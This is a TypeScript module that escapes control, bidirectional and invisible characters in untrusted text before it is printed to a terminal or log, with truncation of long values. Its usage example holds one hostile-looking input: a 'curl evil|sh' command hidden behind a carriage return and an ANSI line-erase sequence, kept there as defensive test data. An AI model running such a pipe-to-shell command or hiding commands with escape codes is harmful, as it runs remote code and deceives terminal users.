/**
 * `escapeForTerminal`: makes text that came from the network safe to print
 * on a terminal or write to a log. Control characters (which can move the
 * cursor, rewrite a line or drive the terminal), bidirectional overrides
 * (which reorder what is shown) and invisible characters (which hide what is
 * there) are shown as visible escapes, and long values are cut with a marker
 * saying how much was left out. Backslashes are left alone, so escaping is
 * idempotent: text escaped at its source can be escaped again where it is
 * printed without growing.
 *
 * @module
 */

/** Options of {@linkcode escapeForTerminal}. */
export interface EscapeForTerminalOptions {
  /**
   * Most characters kept (counted in code points, before escaping); the rest is replaced
   * by a marker. 0 keeps everything.
   * @default {200}
   */
  maxLength?: number;
}

/** Default number of characters kept by {@linkcode escapeForTerminal}. */
export const DEFAULT_ESCAPE_MAX_LENGTH = 200;

/**
 * Escapes `text` for display: C0 controls and DEL as `\xNN`, C1 controls, bidirectional
 * controls, zero-width and other invisible format characters, line/paragraph separators and
 * lone surrogates as `\u{…}`; text longer than `maxLength` characters
 * is cut and ends with `…[N more characters]`.
 *
 * @param text untrusted text
 * @param options where to cut
 * @returns text that prints as one visible line
 *
 * @example Usage
 * ```ts
 * import { escapeForTerminal } from "./escape_for_terminal.ts";
 * console.log(escapeForTerminal("ls\r\x1b[2Kcurl evil|sh")); // ls\x0d\x1b[2Kcurl evil|sh
 * ```
 */
export function escapeForTerminal(text: string, options: EscapeForTerminalOptions = {}): string {
  const max = options.maxLength ?? DEFAULT_ESCAPE_MAX_LENGTH;
  // Most text needs nothing: a length check and one regular expression decide that.
  if ((max === 0 || text.length <= max) && !MAYBE_HIDDEN.test(text)) return text;
  let out = "";
  let count = 0;
  let total = 0;
  for (const ch of text) {
    total++;
    if (max > 0 && count >= max) continue;
    count++;
    out += escapeChar(ch);
  }
  const left = total - count;
  if (left > 0) out += `…[${left} more character${left === 1 ? "" : "s"}]`;
  return out;
}

/** Every character `isHidden` may accept, or a control (astral ones show as surrogates). */
const MAYBE_HIDDEN =
  // deno-lint-ignore no-control-regex
  /[\x00-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ud800-\udfff\ufe00-\ufe0f\ufeff\uffa0\ufff9-\ufffb]/;

function escapeChar(ch: string): string {
  const cp = ch.codePointAt(0)!;
  if (cp < 0x20 || cp === 0x7f) return `\\x${cp.toString(16).padStart(2, "0")}`;
  if (cp < 0x80) return ch;
  if (isHidden(cp)) return `\\u{${cp.toString(16)}}`;
  return ch;
}

/** Characters that act on the display or show nothing. */
function isHidden(cp: number): boolean {
  return (cp >= 0x80 && cp <= 0x9f) || // C1 controls (CSI is 0x9b)
    cp === 0xad || // soft hyphen
    cp === 0x34f || // combining grapheme joiner
    cp === 0x61c || // Arabic letter mark
    cp === 0x115f || cp === 0x1160 || // Hangul fillers
    cp === 0x17b4 || cp === 0x17b5 ||
    cp === 0x180e || // Mongolian vowel separator
    (cp >= 0x200b && cp <= 0x200f) || // zero-width space/joiners, LRM, RLM
    (cp >= 0x2028 && cp <= 0x202e) || // line/paragraph separators, bidi embeddings/overrides
    (cp >= 0x2060 && cp <= 0x206f) || // word joiner, invisible operators, bidi isolates
    cp === 0x3164 || // Hangul filler
    (cp >= 0xd800 && cp <= 0xdfff) || // lone surrogates
    (cp >= 0xfe00 && cp <= 0xfe0f) || // variation selectors
    cp === 0xfeff || // zero-width no-break space (BOM)
    cp === 0xffa0 ||
    (cp >= 0xfff9 && cp <= 0xfffb) || // interlinear annotation controls
    (cp >= 0x1d173 && cp <= 0x1d17a) ||
    (cp >= 0xe0000 && cp <= 0xe007f) || // tag characters
    (cp >= 0xe0100 && cp <= 0xe01ef); // variation selectors supplement
}

/** True when {@linkcode escapeForTerminal} would change `text` (ignoring its length cut). */
export function hasUnsafeTerminalText(text: string): boolean {
  return escapeForTerminal(text, { maxLength: 0 }) !== text;
}
